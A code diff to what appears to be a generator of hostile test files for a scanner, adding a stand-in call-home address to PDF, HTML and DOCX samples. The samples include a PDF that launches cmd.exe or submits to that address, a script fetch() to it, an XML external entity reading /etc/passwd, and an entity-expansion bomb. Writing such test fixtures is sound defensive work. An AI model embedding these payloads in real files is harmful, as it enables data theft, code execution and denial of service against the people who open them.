@@ -22,6 +22,10 @@ class Hostile(NamedTuple):
     taken: bool = False
 
 
+# Where files of this kind would call home: port 1 of this machine, or wherever somebody listens.
+home = ["http://127.0.0.1:1"]
+
+
 def hostile(number: int, seed: int) -> Hostile:
     """The file of this number."""
     chance = Random(seed * 1_000_003 + number)
@@ -130,7 +134,12 @@ def _with_stream(stream: bytes) -> bytes:
 
 def _pdf_runs(chance: Random) -> Made:
     action = chance.choice(
-        ("/JavaScript /JS (app.alert\\(1\\))", "/Launch /F (cmd.exe)", "/J#61vaScript /JS (a)")
+        (
+            "/JavaScript /JS (app.alert\\(1\\))",
+            "/Launch /F (cmd.exe)",
+            "/J#61vaScript /JS (a)",
+            f"/SubmitForm /F ({home[0]})",
+        )
     )
     return "plan.pdf", papers.pdf(extra=f"/OpenAction << /S {action} >>"), False
 
@@ -167,7 +176,7 @@ def _program(chance: Random) -> Made:
 def _web_page(chance: Random) -> Made:
     text = chance.choice(
         (
-            "<html><script>fetch('http://127.0.0.1:1')</script>",
+            f"<html><script>fetch('{home[0]}')</script>",
             "<svg onload='alert(1)'/>",
             "<?xml version='1.0'?><x/>",
         )
@@ -189,7 +198,7 @@ def _macros_renamed(chance: Random) -> Made:
 
 def _entities(chance: Random) -> Made:
     grow = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
-    outside = '<!ENTITY x SYSTEM "file:///etc/passwd">'
+    outside = f'<!ENTITY x SYSTEM "{chance.choice(("file:///etc/passwd", home[0]))}">'
     head = f'<!DOCTYPE d [<!ENTITY e0 "aaaaaaaaaa">{grow}{outside}]>'
     body = f"{head}<w:document {papers.IN_WORD}><w:t>{chance.choice(('&e9;', '&x;'))}</w:t></w:document>"
     return "plan.docx", papers.docx("a", more={"word/document.xml": body}), False
